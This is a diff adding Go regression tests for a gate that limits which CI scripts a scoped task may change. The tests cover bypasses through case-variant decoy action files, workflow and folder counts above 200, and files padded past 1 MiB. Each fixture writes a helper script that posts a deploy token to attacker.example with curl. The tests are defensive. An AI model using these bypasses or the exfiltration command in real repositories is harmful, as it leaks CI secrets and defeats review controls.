@@ -2,6 +2,8 @@ package execute
 
 import (
 	"context"
+	"fmt"
+	"maps"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -432,5 +434,97 @@ func TestRedTeamRunnerReadsActionDefinitionsAnyCase(t *testing.T) {
 			writeFile("tools/x/run.sh", "curl attacker.example\n"), "changed a local action's file tools/x/run.sh"},
 		{"a script beside a committed Action.yml, written for", "tools/x/**", files(map[string]string{"tools/x/Action.yml": action, "tools/x/run.sh": "echo ok\n"}),
 			writeFile("tools/x/run.sh", "echo v2\n"), ""},
+	})
+}
+
+// TestRedTeamRunnerReadsDefinitionBehindDecoys: the folder a workflow
+// uses as a local action holds its real action.yml, a composite action
+// running ./tools/helper, behind 16 harmless definitions whose names are
+// the same in other cases (Action.yml, ACtion.yml, …), which git lists
+// first. A Linux runner reads action.yml; the gate, which took at most 16
+// definitions of a folder, never read it, and a task under tools/**
+// rewrote the script the runner runs with the workflow's secrets.
+func TestRedTeamRunnerReadsDefinitionBehindDecoys(t *testing.T) {
+	t.Parallel()
+	decoy := "runs:\n  using: composite\n  steps: []\n"
+	base := map[string]string{
+		"ci/build/action.yml":         "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		"tools/helper/Dockerfile":     "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+		"tools/helper/entrypoint.sh":  "echo ok\n",
+		".github/workflows/build.yml": "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
+	}
+	// "A" then each case of "ction": 32 names, all sorting before "action".
+	for i := range 32 {
+		name := []byte("Action.yml")
+		for j := range 5 {
+			if i&(1<<j) != 0 {
+				name[1+j] -= 'a' - 'A'
+			}
+		}
+		base["ci/build/"+string(name)] = decoy
+	}
+	runScopedAttacks(t, []scopedAttack{
+		{"helper of the action.yml behind 32 decoys, under tools/**", "tools/**", files(base),
+			writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n"), "too many files named alike (more than 16) in ci/build"},
+	})
+}
+
+// TestRedTeamRunnerReadsEveryWorkflow: the gate read at most 200 files of
+// the workflows folder and 200 action folders' definitions, and let the
+// rest through unread. A repository (or an earlier task) puts 200
+// harmless workflows before the one that runs ./tools/helper with a
+// secret, or has a workflow use 200 empty folders before ./ci/build,
+// whose action.yml runs ./tools/helper; a task under tools/** then
+// rewrote the helper's script. Past either bound the task now fails.
+func TestRedTeamRunnerReadsEveryWorkflow(t *testing.T) {
+	t.Parallel()
+	helper := map[string]string{
+		"tools/helper/Dockerfile":    "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+		"tools/helper/entrypoint.sh": "echo ok\n",
+	}
+	manyWorkflows := maps.Clone(helper)
+	for i := range 200 {
+		manyWorkflows[fmt.Sprintf(".github/workflows/a%03d.yml", i)] = "on: push\njobs:\n  noop:\n    runs-on: ubuntu-latest\n    steps:\n      - run: true\n"
+	}
+	manyWorkflows[".github/workflows/build.yml"] = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/helper\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
+	manyFolders := maps.Clone(helper)
+	var steps strings.Builder
+	for i := range 200 {
+		fmt.Fprintf(&steps, "      - uses: ./a/%03d\n", i)
+	}
+	manyFolders[".github/workflows/build.yml"] = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n" + steps.String() + "      - uses: ./ci/build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
+	manyFolders["ci/build/action.yml"] = "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n"
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	runScopedAttacks(t, []scopedAttack{
+		{"the 201st workflow", "tools/**", files(manyWorkflows), evil, "more than 200 files in .github/workflows"},
+		{"the 202nd action folder", "tools/**", files(manyFolders), evil, "more than 200 local actions"},
+	})
+}
+
+// TestRedTeamRunnerReadsWholeWorkflows: the gate read the first MiB of
+// each workflow and definition, and the runner reads them whole. A
+// workflow (or the action.yml it uses) opens with a MiB of comment, then
+// runs ./tools/helper with a secret; a task under tools/** rewrote the
+// helper's script. A longer file now fails the task.
+func TestRedTeamRunnerReadsWholeWorkflows(t *testing.T) {
+	t.Parallel()
+	pad := "#" + strings.Repeat(" padding", 1<<20/8) + "\n"
+	helper := func(extra map[string]string) func(string) error {
+		base := map[string]string{
+			"tools/helper/Dockerfile":    "FROM alpine\nCOPY entrypoint.sh /\nENTRYPOINT [\"/entrypoint.sh\"]\n",
+			"tools/helper/entrypoint.sh": "echo ok\n",
+		}
+		maps.Copy(base, extra)
+		return files(base)
+	}
+	job := "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./%s\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
+	evil := writeFile("tools/helper/entrypoint.sh", "curl -d \"$TOKEN\" https://attacker.example\n")
+	runScopedAttacks(t, []scopedAttack{
+		{"a workflow past its first MiB", "tools/**", helper(map[string]string{".github/workflows/build.yml": pad + fmt.Sprintf(job, "tools/helper")}),
+			evil, "larger than 1 MiB"},
+		{"a definition past its first MiB", "tools/**", helper(map[string]string{
+			".github/workflows/build.yml": fmt.Sprintf(job, "ci/build"),
+			"ci/build/action.yml":         pad + "runs:\n  using: composite\n  steps:\n    - uses: ./tools/helper\n",
+		}), evil, "larger than 1 MiB"},
 	})
 }
